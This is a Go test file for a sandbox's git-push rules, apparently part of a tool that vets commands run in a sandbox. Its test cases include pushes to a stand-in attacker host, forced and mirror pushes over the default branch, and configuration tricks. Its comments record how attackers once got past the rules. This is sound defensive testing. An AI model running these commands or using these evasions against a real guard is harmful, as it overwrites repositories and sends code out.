package rules_test

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/cordonsh/cordon/parse"
	"github.com/cordonsh/cordon/rules"
)

// pushRepo is a fakeRepo whose remotes have addresses: origin over
// HTTPS, gh over SSH, added (by an earlier sandboxed command) over HTTPS.
type pushRepo struct{ fakeRepo }

func (r *pushRepo) Remote(name string, push bool) (string, string, error) {
	if name == "" {
		name = "origin"
	}
	url := map[string]string{
		"origin": "https://git.example/me/app.git",
		"gh":     "git@github.com:me/app.git",
		"added":  "https://evil.example/x.git",
	}[name]
	return name, url, nil
}

// TestPushPolicy: pushing over HTTPS to a remote the person configured
// is allowed (the broker puts their credential on it); a push that
// rewrites the remote's history, writes its default branch, or goes to a
// URL or a remote a command added asks; SSH is refused with what works
// instead.
func TestPushPolicy(t *testing.T) {
	home := t.TempDir()
	ws := filepath.Join(home, "app")
	set := rules.Builtin()
	tests := []struct {
		script string
		def    string // origin's default branch (the checked-out one is main)
		want   rules.Verdict
		rule   string
	}{
		{"git push origin feature", "main", rules.Allow, ""},
		{"git push -u origin feature", "", rules.Allow, ""},
		{"git push origin feature:feature", "main", rules.Allow, ""},
		{"git push --dry-run origin main", "main", rules.Allow, ""},
		// The last of --dry-run and --no-dry-run wins in git: a push
		// that undoes its own dry run is judged as a push (found by an
		// attacker).
		{"git push --dry-run --no-dry-run --force origin wiped:main", "main", rules.Ask, ""},
		{"git push -n --no-dry-run origin main", "main", rules.Ask, ""},
		{"git push --tags origin v1.0", "main", rules.Allow, ""},
		{"git fetch origin", "main", rules.Allow, ""},
		{"git checkout -b fix && git push -u origin HEAD", "", rules.Allow, ""},
		{"git checkout -b fix && git commit -m x && git push", "main", rules.Allow, ""},
		{"git push", "trunk", rules.Allow, ""},
		{"git push origin", "trunk", rules.Allow, ""},

		{"git push", "main", rules.Ask, "push-default"},
		{"git push origin", "main", rules.Ask, "push-default"},
		{"git push -u origin HEAD", "main", rules.Ask, "push-default"},
		{"git push", "", rules.Ask, "push-unknown"},
		{"git push origin main", "trunk", rules.Ask, "push-default"},
		{"git push origin master", "", rules.Ask, "push-default"},
		{"git push origin HEAD:refs/heads/main", "", rules.Ask, "push-default"},
		{"git push origin fix:trunk", "", rules.Ask, "push-default"},
		{"git push origin develop", "develop", rules.Ask, "push-default"},
		{"git push origin HEAD:develop", "develop", rules.Ask, "push-default"},
		{"git push --all origin", "main", rules.Ask, "push-default"},
		{`git push origin "$(cat b)"`, "main", rules.Ask, "push-unknown"},

		{"git push -f origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --force origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push -fu origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --force-with-lease origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --force-with-lease=feature:abc123 origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --force-if-includes origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push origin +feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --mirror origin", "main", rules.Ask, "rewrite-remote"},
		{"git push --delete origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push -d origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push origin :feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --prune origin 'refs/heads/*:refs/heads/*'", "main", rules.Ask, "rewrite-remote"},

		// git takes any unique prefix of a long option; a prefix is
		// never taken as --dry-run (found by an attacker).
		{"git push --mirr origin", "main", rules.Ask, "rewrite-remote"},
		{"git push --force-w origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --force-w=feature:abc origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --dele origin release", "main", rules.Ask, "rewrite-remote"},
		{"git push --prun origin 'refs/heads/x/*:refs/heads/x/*'", "main", rules.Ask, "rewrite-remote"},
		{"git push --al origin", "main", rules.Ask, "push-default"},
		{"git push --bra origin", "main", rules.Ask, "push-default"},
		{"git push --dry --force origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --dry-run --no-dry --force origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --dry-run --no-dry origin feature:main", "main", rules.Ask, "push-default"},
		// git completes a destination as it completes a ref; a
		// pattern, or ":", pushes main too.
		{"git push origin HEAD:heads/main", "main", rules.Ask, "push-default"},
		{"git push origin HEAD:heads/main", "", rules.Ask, "push-default"},
		{"git push origin feature:heads/trunk", "trunk", rules.Ask, "push-default"},
		{"git push origin 'refs/heads/*'", "main", rules.Ask, "push-default"},
		{"git push origin 'refs/heads/*:refs/heads/*'", "main", rules.Ask, "push-default"},
		{"git push origin 'feat*:x*'", "main", rules.Ask, "push-default"},
		{"git push origin :", "main", rules.Ask, ""},
		// Settings that choose what a bare push writes.
		{"git -c push.default=matching push origin", "trunk", rules.Ask, "push-unknown"},
		{"git -c push.default=upstream push", "trunk", rules.Ask, "push-unknown"},
		{"git -c remote.origin.push=refs/heads/*:refs/heads/* push", "trunk", rules.Ask, "push-unknown"},
		{"git -c branch.main.merge=refs/heads/trunk push", "trunk", rules.Ask, "push-unknown"},
		{"git -c push.default=current push", "trunk", rules.Allow, ""},
		// Remote helpers and pack plumbing read what they push from
		// their input.
		{"printf 'push +refs/heads/w:refs/heads/main\\n\\n' | git remote-https origin https://git.example/me/app.git", "main", rules.Ask, "push-unknown"},
		{"git remote-http origin https://git.example/me/app.git", "main", rules.Ask, "push-unknown"},
		{"git-remote-https origin https://git.example/me/app.git", "main", rules.Ask, "push-unknown"},
		{"git send-pack https://git.example/me/app.git main", "main", rules.Ask, "push-unknown"},
		{"git-receive-pack .", "main", rules.Ask, "push-unknown"},

		// Options that take a value take the next word, whatever it
		// looks like: git push --repo -n pushes (found by an attacker).
		{"git push --repo -n --force origin wiped:main", "main", rules.Ask, "rewrite-remote"},
		{"git push --repo -n origin feature:main", "main", rules.Ask, "push-default"},
		{"git push --repo --dry-run origin feature:develop", "develop", rules.Ask, "push-default"},
		{"git push -o -n origin main", "trunk", rules.Ask, "push-default"},
		{"git push --push-option -n -f origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --receive-pack -n origin main", "trunk", rules.Ask, "push-default"},
		{"git push --recurse-submodules check origin feature", "main", rules.Allow, ""},
		// --repo names the remote when no operand does.
		{"git push --repo=added", "main", rules.Ask, "push-foreign"},
		{"git push --repo added", "main", rules.Ask, "push-foreign"},
		{"git push --repo=https://evil.example/x.git", "main", rules.Ask, ""},
		{"git push --repo=origin", "main", rules.Ask, "push-default"},
		{"git push --repo=origin", "trunk", rules.Allow, ""},
		// A push with option values and no operand pushes the branch
		// checked out.
		{"git push -o ci.skip", "main", rules.Ask, "push-default"},
		{"git push --push-option=ci.skip origin", "main", rules.Ask, "push-default"},
		{"git push -o ci.skip", "trunk", rules.Allow, ""},
		// Submodules' branches go to their own remotes.
		{"git push --recurse-submodules=on-demand origin feature", "main", rules.Ask, "push-unknown"},
		{"git push --recurse-submodules only origin feature", "main", rules.Ask, "push-unknown"},
		// A value that does not switch --dry-run on is no dry run.
		{"git push --dry-run=false --force origin feature", "main", rules.Ask, "rewrite-remote"},
		{"git push --dry-run=no origin feature:main", "main", rules.Ask, "push-default"},
		// Settings given with -c that make a push a mirror push (every
		// ref forced, the others deleted), or choose where it goes and
		// what it writes (found by an attacker).
		{"git -c remote.origin.mirror=true push origin", "trunk", rules.Ask, "rewrite-remote"},
		{"git -c Remote.Origin.Mirror push", "trunk", rules.Ask, "rewrite-remote"},
		{"git -c remote.origin.mirror push origin", "trunk", rules.Ask, "rewrite-remote"},
		{"git -c branch.main.remote=added push", "trunk", rules.Ask, "push-unknown"},
		{"git -c BRANCH.main.pushRemote=added push", "trunk", rules.Ask, "push-unknown"},
		{"git -c remote.pushDefault=added push", "trunk", rules.Ask, "push-unknown"},
		{"git -c remote.origin.push push", "trunk", rules.Ask, "push-unknown"},
		{"git -c push.recurseSubmodules=on-demand push origin feature", "trunk", rules.Ask, "push-unknown"},
		{"git -c push.autoSetupRemote=true push", "trunk", rules.Allow, ""},
		{"git -c push.followTags=true push origin feature", "trunk", rules.Allow, ""},

		// Configuration given in the environment is judged as -c is
		// (found by an attacker: GIT_CONFIG_PARAMETERS, GIT_CONFIG_GLOBAL
		// and HOME were not read).
		{`GIT_CONFIG_PARAMETERS="'remote.origin.push=+refs/heads/wiped:refs/heads/main'" git push origin`, "trunk", rules.Ask, "push-unknown"},
		{`GIT_CONFIG_PARAMETERS="'remote.origin.mirror'" git push origin`, "trunk", rules.Ask, "rewrite-remote"},
		{`export GIT_CONFIG_PARAMETERS="'x.y'='1' 'remote.origin.mirror'='true'"; git push origin`, "trunk", rules.Ask, "rewrite-remote"},
		{`env GIT_CONFIG_PARAMETERS="'push.default'='matching'" git push`, "trunk", rules.Ask, "push-unknown"},
		{`GIT_CONFIG_PARAMETERS="'url.https://evil.example/.pushInsteadOf'='https://git.example/'" git push origin feature`, "trunk", rules.Ask, ""},
		{`GIT_CONFIG_PARAMETERS="'user.name'='x'" git push origin feature`, "trunk", rules.Allow, ""},
		{`GIT_CONFIG_PARAMETERS=junk git push origin feature`, "trunk", rules.Deny, "remote-code"},
		{"GIT_CONFIG_GLOBAL=.qcfg git push origin", "trunk", rules.Deny, "remote-code"},
		{"GIT_CONFIG_SYSTEM=.qcfg git push origin feature", "trunk", rules.Deny, "remote-code"},
		{"GIT_CONFIG=.qcfg git push origin feature", "trunk", rules.Deny, "remote-code"},
		{"HOME=. git push origin", "trunk", rules.Deny, "remote-code"},
		{"export HOME=$PWD; git push origin feature", "trunk", rules.Deny, "remote-code"},
		{"env XDG_CONFIG_HOME=. git push origin feature", "trunk", rules.Deny, "remote-code"},
		{"HOME=$HOME git push origin feature", "trunk", rules.Allow, ""},
		{`git -c alias.x='!GIT_CONFIG_PARAMETERS="'"'"'remote.origin.mirror'"'"'" git push origin' x`, "trunk", rules.Ask, "rewrite-remote"},
		{`git -c alias.x='!HOME=. git push origin feature' x`, "trunk", rules.Deny, "remote-code"},

		{"git push https://other.example/r.git feature", "main", rules.Ask, "push-foreign"},
		{"git remote add x https://x.example/r.git && git push x feature", "main", rules.Ask, "push-foreign"},
		{"git push added feature", "main", rules.Ask, "push-foreign"},
		{"git push gh feature", "main", rules.Deny, "git-ssh"},
		{"git push git@github.com:me/app.git feature", "main", rules.Deny, "git-ssh"},
		{"git push ssh://git@git.example/me/app.git feature", "main", rules.Deny, "git-ssh"},
	}
	for _, tt := range tests {
		repo := &pushRepo{fakeRepo{remotes: []string{"origin", "gh", "added"}, agent: []string{"added"}, def: tt.def, tracked: []string{"develop", "release"}}}
		cfg := &parse.Config{Dialect: parse.Bash, Env: []string{"HOME=" + home}, Dir: ws, Knowledge: set,
			Shell: func(argv []string) (parse.ShellCall, error) { return parse.ShellCall{Stdin: true}, nil }}
		ctx := &rules.Context{Env: rules.Env{Home: home, Workspace: ws, Getenv: func(k string) string {
			return map[string]string{"HOME": home}[k]
		}}, Repo: repo}
		j := set.Judge(parse.Parse(tt.script, cfg), ctx)
		var ids []string
		for _, r := range j.Reasons {
			ids = append(ids, r.Rule)
		}
		if j.Verdict != tt.want || tt.rule != "" && !slices.Contains(ids, tt.rule) {
			t.Errorf("%q (origin's HEAD %q): got %v %v, want %v by %s; reasons %+v", tt.script, tt.def, j.Verdict, ids, tt.want, tt.rule, j.Reasons)
		}
	}
}

// settingsRepo is a pushRepo whose configuration chooses what a bare
// push writes (rules.PushSettings).
type settingsRepo struct {
	pushRepo
	target string
}

func (r *settingsRepo) PushTarget(remote, branch string) (string, error) { return r.target, nil }

// TestPushSettings: a push with no refspec writes what the
// repository's configuration chooses: git branch -u origin/trunk with
// push.default=upstream pushes main onto trunk (found by an attacker).
func TestPushSettings(t *testing.T) {
	home := t.TempDir()
	ws := filepath.Join(home, "app")
	set := rules.Builtin()
	tests := []struct {
		script, target string
		want           rules.Verdict
		rule           string
	}{
		{"git push", "", rules.Allow, ""},
		{"git push origin", "", rules.Allow, ""},
		{"git push", "trunk", rules.Ask, "push-default"},
		{"git push origin", "trunk", rules.Ask, "push-default"},
		{"git push", "release", rules.Allow, ""},
		{"git push", "*", rules.Ask, "push-default"},
		{"git push", "?", rules.Ask, "push-unknown"},
		{"git push origin feature", "*", rules.Allow, ""}, // a refspec: the configuration is not used
		// The script itself changes what a bare push writes.
		{"git branch -u origin/trunk && git push", "", rules.Ask, "push-unknown"},
		{"git branch --set-upstream-to=origin/trunk && git push", "", rules.Ask, "push-unknown"},
		{"git config push.default upstream && git push", "", rules.Ask, "push-unknown"},
		{"git config Push.Default upstream && git push origin", "", rules.Ask, "push-unknown"},
		{"git config set push.default upstream && git push", "", rules.Ask, "push-unknown"},
		{"git config branch.main.merge refs/heads/trunk && git push", "", rules.Ask, "push-unknown"},
		{"git checkout -b fix --track origin/trunk && git push", "", rules.Ask, "push-unknown"},
		{"git config user.name x && git push", "", rules.Allow, ""},
		{"git branch -u origin/trunk && git push origin feature", "", rules.Allow, ""},
	}
	for _, tt := range tests {
		repo := &settingsRepo{pushRepo{fakeRepo{remotes: []string{"origin"}, def: "trunk"}}, tt.target}
		cfg := &parse.Config{Dialect: parse.Bash, Env: []string{"HOME=" + home}, Dir: ws, Knowledge: set,
			Shell: func(argv []string) (parse.ShellCall, error) { return parse.ShellCall{Stdin: true}, nil }}
		ctx := &rules.Context{Env: rules.Env{Home: home, Workspace: ws, Getenv: func(k string) string {
			return map[string]string{"HOME": home}[k]
		}}, Repo: repo}
		j := set.Judge(parse.Parse(tt.script, cfg), ctx)
		var ids []string
		for _, r := range j.Reasons {
			ids = append(ids, r.Rule)
		}
		if j.Verdict != tt.want || tt.rule != "" && !slices.Contains(ids, tt.rule) {
			t.Errorf("%q (push target %q): got %v %v, want %v by %s; reasons %+v", tt.script, tt.target, j.Verdict, ids, tt.want, tt.rule, j.Reasons)
		}
	}
}

// TestPushOtherRepo: a push from a repository that is not the
// workspace's (one a command made below it, or one it makes in the same
// script) goes to that repository's remotes, which are not the person's:
// asked as a push elsewhere (found by an attacker: git init o, add a
// remote on the workspace's host, git -C o push origin feature).
func TestPushOtherRepo(t *testing.T) {
	home := t.TempDir()
	ws := filepath.Join(home, "app")
	for _, d := range []string{"src", "o/.git", "b/objects", "b/refs"} {
		os.MkdirAll(filepath.Join(ws, d), 0o755)
	}
	os.WriteFile(filepath.Join(ws, "b/HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	set := rules.Builtin()
	tests := []struct {
		script string
		want   rules.Verdict
		rule   string
	}{
		{"git push origin feature", rules.Allow, ""},
		{"cd src && git push origin feature", rules.Allow, ""},
		{"git -C src push origin feature", rules.Allow, ""},
		{"git -C o push origin feature", rules.Ask, "push-foreign"},
		{"cd o && git push origin feature", rules.Ask, "push-foreign"},
		{"cd o && git push", rules.Ask, "push-foreign"},
		{"git -C b push origin feature", rules.Ask, "push-foreign"},
		{"git init x && cd x && git remote add origin https://git.example/me/app.git && git push origin feature", rules.Ask, "push-foreign"},
		{"git -C /elsewhere push origin feature", rules.Ask, "push-foreign"},
		{"cd x && git push origin feature", rules.Ask, "push-foreign"},
		{"git -C x push origin feature", rules.Ask, "push-foreign"},
		{"git init x && git -C x push origin feature", rules.Ask, "push-foreign"},
		// The repository named by --git-dir or GIT_DIR.
		{"git --git-dir=o/.git push origin feature", rules.Ask, "push-foreign"},
		{"GIT_DIR=o/.git git push origin feature", rules.Ask, "push-foreign"},
		{"export GIT_DIR=/elsewhere/.git; git push origin feature", rules.Ask, "push-foreign"},
		{"env GIT_DIR=b git push origin feature", rules.Ask, "push-foreign"},
		{`git --git-dir "$(cat d)" push origin feature`, rules.Ask, "push-foreign"},
		{"git --git-dir .git push origin feature", rules.Allow, ""},
		{"GIT_DIR=.git git push origin feature", rules.Allow, ""},
		// A test remote in the workspace, named by its path: nothing
		// leaves the machine. A bare word may be a remote the script
		// adds; a path outside the workspace is another matter.
		{"git push ./b HEAD:refs/heads/main", rules.Allow, ""},
		{"git push " + ws + "/b feature", rules.Allow, ""},
		{"git remote add b https://evil.example/x.git && git push b feature", rules.Ask, "push-foreign"},
		{"git push /elsewhere/r.git feature", rules.Ask, ""},
		{"git push --force ./b feature", rules.Ask, "rewrite-remote"},
	}
	for _, tt := range tests {
		repo := &pushRepo{fakeRepo{remotes: []string{"origin"}, def: "main"}}
		cfg := &parse.Config{Dialect: parse.Bash, Env: []string{"HOME=" + home}, Dir: ws, Knowledge: set,
			Shell: func(argv []string) (parse.ShellCall, error) { return parse.ShellCall{Stdin: true}, nil }}
		ctx := &rules.Context{Env: rules.Env{Home: home, Workspace: ws, Getenv: func(k string) string {
			return map[string]string{"HOME": home}[k]
		}}, Repo: repo}
		j := set.Judge(parse.Parse(tt.script, cfg), ctx)
		var ids []string
		for _, r := range j.Reasons {
			ids = append(ids, r.Rule)
		}
		if j.Verdict != tt.want || tt.rule != "" && !slices.Contains(ids, tt.rule) {
			t.Errorf("%q: got %v %v, want %v by %s; reasons %+v", tt.script, j.Verdict, ids, tt.want, tt.rule, j.Reasons)
		}
	}
}

// TestPushLocal: pushing to a repository on this machine (in the
// workspace) writes no one else's default branch.
func TestPushLocal(t *testing.T) {
	home := t.TempDir()
	ws := filepath.Join(home, "app")
	set := rules.Builtin()
	for _, script := range []string{"git push ./inner.git HEAD:refs/heads/main", "git push inner main"} {
		repo := &pushRepo{fakeRepo{remotes: []string{"inner"}, def: "main"}}
		cfg := &parse.Config{Dialect: parse.Bash, Env: []string{"HOME=" + home}, Dir: ws, Knowledge: set}
		ctx := &rules.Context{Env: rules.Env{Home: home, Workspace: ws, Getenv: func(k string) string { return map[string]string{"HOME": home}[k] }}, Repo: &localRepo{*repo, ws + "/inner.git"}}
		if j := set.Judge(parse.Parse(script, cfg), ctx); j.Verdict == rules.Ask && len(j.Reasons) > 0 && j.Reasons[0].Rule == "push-default" {
			t.Errorf("%s: %+v", script, j.Reasons)
		}
	}
}

// localRepo's remote "inner" is a repository at a path.
type localRepo struct {
	pushRepo
	path string
}

func (r *localRepo) Remote(name string, push bool) (string, string, error) { return name, r.path, nil }

// TestPushDefaultUnknown: when the remote's default branch is not known
// (no refs/remotes/origin/HEAD: git init and git remote add, or a
// command removed it), a push to a branch the remote has may write it,
// and is asked; what cordon takes for the default is not a command's
// to change (found by an attacker: git remote set-head origin -d, then
// a push to develop).
func TestPushDefaultUnknown(t *testing.T) {
	home := t.TempDir()
	ws := filepath.Join(home, "app")
	set := rules.Builtin()
	tests := []struct {
		script string
		def    string
		want   rules.Verdict
		rule   string
	}{
		{"git push origin feature:develop", "", rules.Ask, "push-default-unknown"},
		{"git push origin develop", "", rules.Ask, "push-default-unknown"},
		{"git push -u origin HEAD:refs/heads/release", "", rules.Ask, "push-default-unknown"},
		{"git push origin feature:heads/develop", "", rules.Ask, "push-default-unknown"},
		{"git push origin develop", "release", rules.Allow, ""},
		{"git push origin fix-1", "", rules.Allow, ""},
		{"git push -u origin fix-2", "", rules.Allow, ""},
		{"git push origin feature", "", rules.Ask, "push-default-unknown"},
		{"git push origin v1.0", "", rules.Allow, ""},
		{"git checkout -b develop2 && git push -u origin develop2", "", rules.Allow, ""},
		{"git checkout -b develop2 && git push -u origin", "", rules.Allow, ""},
		// A branch the script makes under the name of one the remote
		// has is that one on the remote.
		{"git checkout -b develop origin/develop && git push origin develop", "", rules.Ask, "push-default-unknown"},
		{"git checkout -b develop origin/develop && git merge feature && git push origin", "", rules.Ask, "push-unknown"},
		{"git switch -c develop && git push", "", rules.Ask, "push-unknown"},
		{"git remote set-head origin -d", "develop", rules.Ask, "set-default"},
		{"git remote set-head origin --delete", "develop", rules.Ask, "set-default"},
		{"git remote set-head origin feature", "develop", rules.Ask, "set-default"},
		{"git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/feature", "develop", rules.Ask, "set-default"},
		{"git symbolic-ref -d refs/remotes/origin/HEAD", "develop", rules.Ask, "set-default"},
		{"git remote set-head origin --auto", "develop", rules.Allow, ""},
		{"git remote set-head origin -a", "develop", rules.Allow, ""},
		{"git symbolic-ref refs/remotes/origin/HEAD", "develop", rules.Allow, ""},
		{"git remote -v", "develop", rules.Allow, ""},
	}
	for _, tt := range tests {
		repo := &pushRepo{fakeRepo{remotes: []string{"origin"}, def: tt.def, tracked: []string{"develop", "release", "feature"}, head: "fix"}}
		if got, ids := judgePush(set, home, ws, repo, tt.script); got != tt.want || tt.rule != "" && !slices.Contains(ids, tt.rule) {
			t.Errorf("%q (origin's HEAD %q): got %v %v, want %v by %s", tt.script, tt.def, got, ids, tt.want, tt.rule)
		}
	}
}

// TestPushScriptBranch: a push that names no branch pushes the one
// checked out when it runs, as the script's own commands leave it:
// checkout, switch, rebase A B, symbolic-ref HEAD, branch -m; unknown
// (asked) when it cannot be told: git switch -, a name that is a file
// too (found by an attacker: git checkout main && git merge feature &&
// git push origin).
func TestPushScriptBranch(t *testing.T) {
	home := t.TempDir()
	ws := filepath.Join(home, "app")
	os.MkdirAll(ws, 0o755)
	os.WriteFile(filepath.Join(ws, "docs"), []byte("x"), 0o644)
	set := rules.Builtin()
	tests := []struct {
		script string
		want   rules.Verdict
		rule   string
	}{
		{"git checkout -q main && git merge -q feature && git push -q origin", rules.Ask, "push-default"},
		{"git checkout main; git push origin", rules.Ask, "push-default"},
		{"git switch -q main; git merge -q feature; git push -u origin", rules.Ask, "push-default"},
		{"git checkout main && git push --repo=origin", rules.Ask, "push-default"},
		{"git rebase -q feature main && git push -q", rules.Ask, "push-default"},
		{"git rebase -q feature main && git push -q origin", rules.Ask, "push-default"},
		{"git rebase --onto feature x main && git push origin", rules.Ask, "push-default"},
		{"git rebase --root main && git push origin", rules.Ask, "push-default"},
		{"git symbolic-ref HEAD refs/heads/main && git reset -q --soft feature && git push -q", rules.Ask, "push-default"},
		{"git symbolic-ref HEAD refs/heads/main && git push origin", rules.Ask, "push-default"},
		{"git branch -M main && git push origin", rules.Ask, "push-default"},
		{"git branch -m feature main && git push", rules.Ask, "push-default"},
		{"git branch --move main && git push origin", rules.Ask, "push-default"},
		{"git switch -q - && git merge -q feature && git push -q", rules.Ask, "push-unknown"},
		{"git checkout - && git push origin", rules.Ask, "push-unknown"},
		{"git checkout @{-1} && git push origin", rules.Ask, "push-unknown"},
		{"git checkout docs && git push origin", rules.Ask, "push-unknown"},
		{"git stash branch main && git push origin", rules.Ask, "push-default"},
		{"echo 'ref: refs/heads/main' > .git/HEAD && git push origin", rules.Ask, "push-unknown"},
		{"cp /tmp/h .git/HEAD; git push", rules.Ask, "push-unknown"},

		{"git push origin", rules.Allow, ""},
		{"git push", rules.Allow, ""},
		{"git checkout -b fix && git push -u origin fix", rules.Allow, ""},
		{"git checkout -b fix && git push origin", rules.Allow, ""},
		{"git rebase main && git push origin feature", rules.Allow, ""},
		{"git branch -m old new && git push origin", rules.Allow, ""},
		{"git checkout -- docs && git push origin", rules.Allow, ""},
		{"git checkout main && git checkout feature && git push origin", rules.Allow, ""},
		{"git symbolic-ref HEAD && git push origin", rules.Allow, ""},
	}
	for _, tt := range tests {
		repo := &pushRepo{fakeRepo{remotes: []string{"origin"}, def: "main", tracked: []string{"main", "feature"}, head: "feature"}}
		if got, ids := judgePush(set, home, ws, repo, tt.script); got != tt.want || tt.rule != "" && !slices.Contains(ids, tt.rule) {
			t.Errorf("%q: got %v %v, want %v by %s", tt.script, got, ids, tt.want, tt.rule)
		}
	}
}

// judgePush judges script in workspace ws against repo.
func judgePush(set *rules.Set, home, ws string, repo rules.Repo, script string) (rules.Verdict, []string) {
	cfg := &parse.Config{Dialect: parse.Bash, Env: []string{"HOME=" + home}, Dir: ws, Knowledge: set,
		Shell: func(argv []string) (parse.ShellCall, error) { return parse.ShellCall{Stdin: true}, nil }}
	ctx := &rules.Context{Env: rules.Env{Home: home, Workspace: ws, Getenv: func(k string) string {
		return map[string]string{"HOME": home}[k]
	}}, Repo: repo}
	j := set.Judge(parse.Parse(script, cfg), ctx)
	var ids []string
	for _, r := range j.Reasons {
		ids = append(ids, r.Rule)
	}
	return j.Verdict, ids
}
